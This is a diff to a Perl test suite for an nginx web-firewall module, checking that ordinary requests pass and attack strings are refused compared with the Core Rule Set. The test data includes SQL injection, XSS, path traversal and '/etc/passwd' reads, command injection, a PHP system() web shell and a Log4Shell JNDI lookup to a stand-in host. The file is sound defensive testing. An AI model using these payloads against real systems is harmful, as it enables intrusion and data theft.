@@ -4,7 +4,6 @@
 use strict;
 use warnings;
 use lib 't/lib';
-use File::Temp qw(tempdir);
 use JSON::PP;
 use MIME::Base64 qw(encode_base64);
 use Test::More;
@@ -26,26 +25,14 @@ sub lines_of {
 
 sub encoded { my ($text) = @_; return $text =~ s/([^A-Za-z0-9_.~-])/sprintf '%%%02X', ord $1/ger }
 
-# conf.d/inspect as somebody takes it over whose application reads X-Product.
-my $dir    = tempdir(CLEANUP => 1);
-my $behind = "$dir/behind-crs.conf";
-{
-    open my $in, '<', 'conf.d/inspect/behind-crs.conf' or die "behind-crs.conf: $!";
-    my $text = do { local $/; <$in> };
-    $text =~ s/^#(?=SecRuleUpdateTargetByTag)//mg == 1 or die "no line for a header field in behind-crs.conf\n";
-    open my $out, '>', $behind or die "$behind: $!";
-    print {$out} $text;
-    close $out or die "$behind: $!";
-}
-
 my $upstream = start_upstream("status 200\nbody fine");
 my $nginx    = start_nginx(config => <<"EOC");
 guard_inspect on;
 large_client_header_buffers 4 16k;
 add_header X-Rules "\$guard_inspect_rules" always;
 location / { proxy_pass http://127.0.0.1:@{[ $upstream->port ]}; }
-location /beside/ {
-    guard_inspect_rules $ENV{PWD}/conf.d/inspect/before-crs.conf crs $behind;
+location /crs/ {
+    guard_inspect_rules crs;
     proxy_pass http://127.0.0.1:@{[ $upstream->port ]};
 }
 EOC
@@ -80,16 +67,17 @@ sub everywhere {
     );
 }
 
-# With the rules of conf.d/inspect as well.
-sub beside {
+# Where the Core Rule Set does not look, and Guard's own rules do.
+sub beyond {
     my ($value) = @_;
-    my @places = (
-        ['query',        get('text=' . encoded($value) . '&page=2')],
+    return (
         ['header field', with_field('X-Product', encoded($value))],
         ['path',         get('page=2') =~ s{/search}{'/products/' . encoded($value)}er],
     );
-    return map { ["$_->[0], rules beside", $_->[1] =~ s{ /}{ /beside/}r] } @places;
 }
+
+# The same requests to a location with the Core Rule Set alone.
+sub by_crs { return map { [$_->[0], $_->[1] =~ s{ /}{ /crs/}r] } @_ }
 
 # What WHERE makes of each of the values: its name, and the request.
 sub named {
@@ -111,15 +99,19 @@ sub ask {
 my @values  = lines_of('values');
 my @queries = lines_of('queries');
 my @fields  = lines_of('headers');
+my @paths   = lines_of('paths');
 cmp_ok scalar @values, '>', 70, 'values';
 my (@names, @requests);
 # Passes: that an escape seems to be escaped again weighs 3 of 5.
-my %expected = map { ("50% off ($_)" => '200 920220') } 'query', 'query, rules beside', 'path, rules beside';
+my %expected = map { ("50% off ($_)" => '200 920220') } 'query', 'path';
 # Refused in a path alone: ".com" ends names of programs, and a part of this text, "agenda) with you", could end a query.
-$expected{'info@example.com (path, rules beside)'} = '403 920440,949110';
-$expected{'**Important**: bring the [agenda](https://example.com/agenda) with you (path, rules beside)'} = '403 942100,949110';
+$expected{'info@example.com (path)'} = '403 920440,949110';
+$expected{'**Important**: bring the [agenda](https://example.com/agenda) with you (path)'} = '403 942100,949110';
+# By the Core Rule Set itself: the same, and "file (1)", a call in PHP.
+$expected{'path /users/a.b+c@example.com'} = '403 920440,949110';
+$expected{'path /download/file%20(1).pdf'} = '403 933160,949110';
 for my $value (@values) {
-    for my $place (everywhere($value), beside($value)) {
+    for my $place (everywhere($value), beyond($value)) {
         push @names,    "$value ($place->[0])";
         push @requests, $place->[1];
         $expected{ $names[-1] } = "403 $known{$value},949110" if $known{$value} && $place->[0] !~ /^(?:path|header field)/;
@@ -129,6 +121,8 @@ push @names, map { "query string $_" } @queries;
 push @requests, map { get($_) } @queries;
 push @names, map { "header field $_" } @fields;
 push @requests, map { with_field(/^([^:]+): (.*)/) } @fields;
+push @names, map { "path $_" } @paths;
+push @requests, map { my $path = $_; get('page=2') =~ s{/search}{$path}r } @paths;
 my @answers = ask(@requests);
 is scalar @answers, scalar @requests, 'all are answered';
 my %minded;
@@ -137,26 +131,30 @@ for my $i (0 .. $#requests) {
 }
 is_deeply \%minded, \%expected, 'ordinary requests pass, and match no rule' or diag explain \%minded;
 
-my @attacks = ("1' or '1'='1' -- ", '<script>alert(1)</script>', '../../../../etc/passwd', '; cat /etc/passwd', '<?php system($_GET[0]); ?>', '${jndi:ldap://x.example/a}');
+my @attacks = ("1' or '1'='1' -- ", '<script>alert(1)</script>', '../../../../etc/passwd', '; cat /etc/passwd', '<?php system($_GET[0]); ?>', '$(id)', '${jndi:ldap://x.example/a}');
 my @places  = named(\&everywhere, @attacks);
-# What the Core Rule Set lets pass, and the rules beside it do not.
-push @places, named(\&beside, '1 or 1=1', '1 union select 1,2 from x', '1/**/and/**/1=(select 1)',
-    '1 AND 2752=LIKE(CHAR(65,66),UPPER(HEX(RANDOMBLOB(500000000/2))))');
-push @places, named(
+# What the Core Rule Set lets pass, and Guard's own rules do not.
+my @own = named(\&beyond, '1 or 1=1', '1 union select 1,2 from x', '1/**/and/**/1=(select 1)', '1 AND 2752=LIKE(CHAR(65,66),UPPER(HEX(RANDOMBLOB(500000000/2))))');
+push @own, named(
     sub {
         my ($value) = @_;
         my $text = $value =~ s/&/&amp;/gr =~ s/</&lt;/gr =~ s/"/&quot;/gr;
         my $name = $value =~ s/"/\\"/gr;
-        return map { ["$_->[0], rules beside", $_->[1] =~ s{ /contact}{ /beside/}r] }
+        return (
             ['attribute in XML', post('application/xml', qq{<order note="$text">x</order>})],
             ['name of a file', post('multipart/form-data; boundary=b', qq{--b\r\nContent-Disposition: form-data; name="f"; filename="$name"\r\n\r\nx\r\n--b--\r\n})],
-            ['name of a user', get('page=2') =~ s/^(?=Cookie:)/'Authorization: Basic ' . encode_base64("$value:x", '') . "\r\n"/mer =~ s{/search}{/contact}r];
+            ['name of a user', get('page=2') =~ s/^(?=Cookie:)/'Authorization: Basic ' . encode_base64("$value:x", '') . "\r\n"/mer =~ s{/search}{/contact}r],
+        );
     },
-    "1' or '1'='1", '<script>alert(1)</script>'
+    '1 union select 1,2 from x', '<script>alert(1)</script>'
 );
-push @places, grep { $_->[0] =~ /query/ } named(\&beside, '/etc/services', '&set&', '$(id)');
+push @own, grep { $_->[0] =~ /query/ } named(\&everywhere, '/etc/services', '&set&');
+push @own, named(sub { ['header field', with_field('X-Api', $_[0])] }, '${jndi:ldap://x.example/a}');
+push @places, @own;
 my @refused = ask(map { $_->[1] } @places);
 is_deeply [map { "$places[$_][0]: " . substr $refused[$_] // '', 0, 3 } 0 .. $#places], [map {"$_->[0]: 403"} @places], 'attacks in the same places are refused';
+my @passed = ask(map { $_->[1] } by_crs(@own));
+is_deeply [map { "$own[$_][0]: " . substr $passed[$_] // '', 0, 3 } 0 .. $#own], [map {"$_->[0]: 200"} @own], 'and pass where the Core Rule Set stands alone';
 is_deeply [log_problems($nginx)], [], 'no problem is logged';
 
 done_testing();
